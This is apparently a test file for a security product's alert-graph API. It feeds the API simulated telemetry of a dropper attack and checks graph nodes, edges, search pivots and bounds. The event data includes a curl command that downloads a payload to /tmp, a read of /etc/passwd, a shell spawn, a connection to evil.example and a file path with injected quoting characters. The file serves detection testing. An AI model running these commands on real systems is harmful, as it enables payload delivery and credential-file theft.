// GET /alerts/:id/graph through inject() with a real SQLite store and a real detection stage:
// the graph of a known dropper attack, processes keyed by entity id across pid reuse, bounds
// flagged, 404; and every node's and highlight's pivot, run through POST /search, returns
// exactly (nodes) or at least (highlights) the related events.
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attackEvents, GOLDEN_RULES } from '../../detection/alerts/test-attack.js';
import { DetectionStage } from '../../detection/detection-stage.js';
import type { EcsEvent } from '../../pipeline/ecs.js';
import { bearer, makeFixture, type Fixture } from '../test/support.js';

const T0 = 1_700_000_000_000;
const HOSTILE_PATH = '/tmp/we ird"(or) \\x';
let fx: Fixture;
let alertId: string;
let committed: EcsEvent[];

interface Node { id: string; type: string; label: string; fields: Record<string, string | number>; pivot: string; evidence: boolean }
interface Edge { id: string; type: string; source: string; target: string; count: number; event_ids: string[] }

const base = { 'event.kind': 'event', 'host.id': 'web1', 'host.name': 'web1', 'agent.id': 'a1' };

/** After the dropper attack (session 200: bash 200, curl 201, chmod 202, dropper 203): more activity. */
function extraEvents(): EcsEvent[] {
  const at = (s: number) => T0 + s * 1000;
  return [
    // the dropper writes a file with a hostile name and reads /etc/passwd
    { ...base, '@timestamp': at(5), 'event.id': 'x:1', 'event.category': 'file', 'event.type': 'creation', 'event.action': 'file_created', 'file.path': HOSTILE_PATH, 'process.entity_id': 'web1:203:1', 'process.pid': 203 },
    { ...base, '@timestamp': at(6), 'event.id': 'x:2', 'event.category': 'file', 'event.type': 'access', 'event.action': 'file_opened', 'file.path': '/etc/passwd', 'process.entity_id': 'web1:203:1', 'process.pid': 203 },
    // the dropper starts a shell that reuses curl's pid 201 (curl has exited): a new entity
    { ...base, '@timestamp': at(7), 'event.id': 'x:3', 'event.category': 'process', 'event.type': 'start', 'event.action': 'process_started', 'process.entity_id': 'web1:201:7', 'process.pid': 201, 'process.name': 'sh', 'process.executable': '/bin/sh', 'process.command_line': 'sh -c id', 'process.user.name': 'deploy', 'process.parent.entity_id': 'web1:203:1', 'process.parent.executable': '/tmp/.x200' },
    // the dropper resolves and connects to a domain
    { ...base, '@timestamp': at(8), 'event.id': 'x:4', 'event.category': 'network', 'event.type': 'connection', 'event.action': 'connection_attempted', 'network.direction': 'egress', 'source.ip': '10.0.0.5', 'destination.ip': '198.51.100.7', 'destination.port': 443, 'destination.domain': 'evil.example', 'process.entity_id': 'web1:203:1', 'process.pid': 203 },
    // an unrelated cron job later reuses the dropper's pid 203: it must not join the graph
    { ...base, '@timestamp': at(60), 'event.id': 'x:5', 'event.category': 'process', 'event.type': 'start', 'event.action': 'process_started', 'process.entity_id': 'web1:203:60', 'process.pid': 203, 'process.name': 'cron', 'process.executable': '/usr/sbin/cron', 'process.command_line': 'cron -f', 'process.user.name': 'root', 'process.parent.entity_id': 'web1:1:0' },
    { ...base, '@timestamp': at(61), 'event.id': 'x:6', 'event.category': 'file', 'event.type': 'change', 'event.action': 'file_modified', 'file.path': '/var/log/cron.log', 'process.entity_id': 'web1:203:60', 'process.pid': 203 },
  ] as EcsEvent[];
}

beforeAll(async () => {
  fx = await makeFixture();
  const attack = attackEvents({ session: 200, t0: T0 });
  committed = [...attack, ...extraEvents()];
  // the login shell's start, two hours before: outside the activity window, found as a parent start
  const sshd = { ...base, '@timestamp': T0 - 7_200_000, 'event.id': 'x:0', 'event.category': 'process', 'event.type': 'start', 'event.action': 'process_started', 'process.entity_id': 'web1:1:1', 'process.pid': 1, 'process.name': 'sshd', 'process.executable': '/usr/sbin/sshd', 'process.command_line': 'sshd -D' } as EcsEvent;
  committed.unshift(sshd);
  await fx.store.commitBatches([{ agentId: 'a1', seq: 1, events: committed }]);
  const stage = new DetectionStage({ dirs: [GOLDEN_RULES], store: fx.store, log: pino({ level: 'silent' }) });
  await stage.reloadTuning();
  stage.enqueue(attack);
  await stage.idle();
  const list = (await fx.app.inject({ url: '/api/v1/alerts', headers: bearer(fx.tokens.viewer) })).json().alerts;
  expect(list).toHaveLength(1);
  alertId = list[0].id;
});
afterAll(async () => { await fx.close(); });

const get = (url: string) => fx.app.inject({ url, headers: bearer(fx.tokens.viewer) });
const search = async (query: string): Promise<string[]> => {
  const res = await fx.app.inject({
    method: 'POST', url: '/api/v1/search', headers: bearer(fx.tokens.viewer),
    payload: { query, from: new Date(T0 - 86_400_000).toISOString(), to: new Date(T0 + 86_400_000).toISOString(), limit: 1000 },
  });
  expect(res.statusCode, `${query}: ${res.body}`).toBe(200);
  return res.json().events.map((e: Record<string, string>) => e['event.id']).sort();
};

/** What a node's pivot should find, computed from the committed events by the search semantics. */
function related(n: Node): string[] {
  const f = n.fields;
  const is = (e: EcsEvent, k: string, v: unknown) => (e as Record<string, unknown>)[k] === v;
  const pred: Record<string, (e: EcsEvent) => boolean> = {
    host: (e) => is(e, 'host.id', f['host.id']),
    process: (e) => is(e, 'process.entity_id', f['process.entity_id']) || is(e, 'process.parent.entity_id', f['process.entity_id']),
    user: (e) => is(e, 'host.id', f['host.id']) && (is(e, 'user.name', f['user.name']) || is(e, 'process.user.name', f['user.name'])),
    file: (e) => is(e, 'host.id', f['host.id']) && (is(e, 'file.path', f['file.path']) || is(e, 'process.executable', f['file.path'])),
    ip: (e) => is(e, 'source.ip', f.ip) || is(e, 'destination.ip', f.ip),
    domain: (e) => is(e, 'destination.domain', f['destination.domain']),
  };
  return committed.filter(pred[n.type]!).map((e) => e['event.id'] as string).sort();
}

describe('GET /api/v1/alerts/:id/graph', () => {
  it('draws the attack: processes by entity id, spawned/executed/wrote/read/connected edges', async () => {
    const res = await get(`/api/v1/alerts/${alertId}/graph`);
    expect(res.statusCode).toBe(200);
    const g = res.json() as { nodes: Node[]; edges: Edge[]; truncated: boolean; events: number; bounds: Record<string, number> };
    expect(g.truncated).toBe(false);
    expect(g.bounds).toEqual({ max_events: 2000, max_nodes: 500, max_edges: 2000, window_ms: 3_600_000 });
    const byId = new Map(g.nodes.map((n) => [n.id, n]));
    const procs = g.nodes.filter((n) => n.type === 'process').map((n) => n.id).sort();
    expect(procs).toEqual(['process:web1:1:1', 'process:web1:200:1', 'process:web1:201:1', 'process:web1:201:7', 'process:web1:202:1', 'process:web1:203:1']);
    // pid 201 twice (curl, then the shell that reused it); the cron job that reused 203 is not in the graph
    expect(byId.get('process:web1:201:1')).toMatchObject({ label: 'curl (201)', evidence: true, fields: { 'process.pid': 201, 'process.command_line': 'curl -s -o /tmp/.x200 http://203.0.113.5/x' } });
    expect(byId.get('process:web1:201:7')).toMatchObject({ label: 'sh (201)', evidence: false, fields: { 'process.parent.entity_id': 'web1:203:1' } });
    // the login shell's parent is known from the shell's process.parent.* fields (one level of ancestry: the tree route walks further)
    expect(byId.get('process:web1:1:1')).toMatchObject({ label: 'sshd', evidence: false, fields: { 'process.executable': '/usr/sbin/sshd' } });
    expect(byId.get('process:web1:200:1')).toMatchObject({ label: 'bash (200)', evidence: false, fields: { 'process.command_line': '-bash', 'process.pid': 200 } });
    expect(g.nodes.some((n) => n.label.startsWith('cron') || n.fields['file.path'] === '/var/log/cron.log')).toBe(false);
    expect(byId.get('host:web1')).toMatchObject({ type: 'host', label: 'web1', pivot: 'host.id:"web1"' });

    const has = (type: string, source: string, target: string) => g.edges.some((e) => e.type === type && e.source === source && e.target === target);
    expect(has('spawned', 'process:web1:1:1', 'process:web1:200:1')).toBe(true);
    for (const child of ['201:1', '202:1', '203:1']) expect(has('spawned', 'process:web1:200:1', `process:web1:${child}`)).toBe(true);
    expect(has('spawned', 'process:web1:203:1', 'process:web1:201:7')).toBe(true);
    expect(has('spawned', 'process:web1:200:1', 'process:web1:201:7')).toBe(false);
    expect(has('executed', 'user:web1:deploy', 'process:web1:201:1')).toBe(true);
    expect(has('executed', 'process:web1:203:1', 'file:web1:%2Ftmp%2F.x200')).toBe(true);
    expect(has('wrote', 'process:web1:203:1', `file:web1:${encodeURIComponent(HOSTILE_PATH)}`)).toBe(true);
    expect(has('read', 'process:web1:203:1', 'file:web1:%2Fetc%2Fpasswd')).toBe(true);
    expect(has('connected', 'process:web1:203:1', 'ip:203.0.113.5')).toBe(true);
    expect(has('connected', 'process:web1:203:1', 'ip:198.51.100.7')).toBe(true);
    expect(has('connected', 'ip:198.51.100.7', 'domain:evil.example')).toBe(true);
    const c2 = g.edges.find((e) => e.type === 'connected' && e.target === 'ip:203.0.113.5')!;
    expect(c2).toMatchObject({ count: 1, event_ids: ['web1-200:4'] });
    // every edge joins two nodes of the graph
    for (const e of g.edges) expect(byId.has(e.source) && byId.has(e.target), e.id).toBe(true);
  });

  it('every node pivot, run through POST /search, returns exactly its related events', async () => {
    const g = (await get(`/api/v1/alerts/${alertId}/graph`)).json() as { nodes: Node[] };
    expect(new Set(g.nodes.map((n) => n.type))).toEqual(new Set(['host', 'user', 'process', 'file', 'ip', 'domain']));
    for (const n of g.nodes) {
      const expected = related(n);
      expect(expected.length, n.id).toBeGreaterThan(0);
      expect(await search(n.pivot), `${n.id}: ${n.pivot}`).toEqual(expected);
    }
  });

  it('every highlight pivot returns the highlight\'s events', async () => {
    const a = (await get(`/api/v1/alerts/${alertId}`)).json();
    const all = [...a.highlights.commands, ...a.highlights.source_ips, ...a.highlights.destination_ips, ...a.highlights.files];
    expect(all.length).toBeGreaterThanOrEqual(6);
    for (const h of all as Array<{ value: string; pivot: string; event_ids: string[] }>) {
      expect(typeof h.pivot, h.value).toBe('string');
      expect(await search(h.pivot), h.pivot).toEqual(expect.arrayContaining(h.event_ids));
    }
    expect(a.highlights.destination_ips[0].pivot).toBe('source.ip:"203.0.113.5" or destination.ip:"203.0.113.5"');
    expect(a.highlights.files[0]).toMatchObject({ value: '/tmp/.x200', pivot: 'file.path:"/tmp/.x200" or process.executable:"/tmp/.x200"' });
  });

  it('flags truncation when a bound is hit', async () => {
    const few = (await get(`/api/v1/alerts/${alertId}/graph?max_events=3`)).json();
    expect(few.truncated).toBe(true);
    expect(few.events).toBe(3);
    const small = (await get(`/api/v1/alerts/${alertId}/graph?max_nodes=2`)).json();
    expect(small.truncated).toBe(true);
    expect(small.nodes).toHaveLength(2);
    for (const e of small.edges as Edge[]) expect(small.nodes.some((n: Node) => n.id === e.source) && small.nodes.some((n: Node) => n.id === e.target)).toBe(true);
    expect((await get(`/api/v1/alerts/${alertId}/graph?max_events=5000`)).statusCode).toBe(400);
  });

  it('answers 404 for an unknown alert, 400 for a malformed id', async () => {
    const res = await get('/api/v1/alerts/00000000-0000-4000-8000-000000000000/graph');
    expect(res.statusCode).toBe(404);
    expect(res.json().error.code).toBe('XDR_ALERT_NOT_FOUND');
    expect((await get('/api/v1/alerts/nope/graph')).statusCode).toBe(400);
    expect((await fx.app.inject({ url: `/api/v1/alerts/${alertId}/graph` })).statusCode).toBe(401);
  });

  it('is documented in the OpenAPI document with its node and edge types', async () => {
    const doc = (await fx.app.inject({ url: '/api/v1/openapi.json' })).json();
    const op = doc.paths['/api/v1/alerts/{id}/graph'].get;
    expect(op['x-required-role']).toBe('viewer');
    const body = op.responses['200'].content['application/json'].schema;
    expect(body.properties.nodes.items.properties.type.enum).toEqual(['host', 'user', 'process', 'file', 'ip', 'domain']);
    expect(body.properties.edges.items.properties.type.enum).toEqual(['spawned', 'executed', 'wrote', 'read', 'connected', 'logged_in']);
  });
});
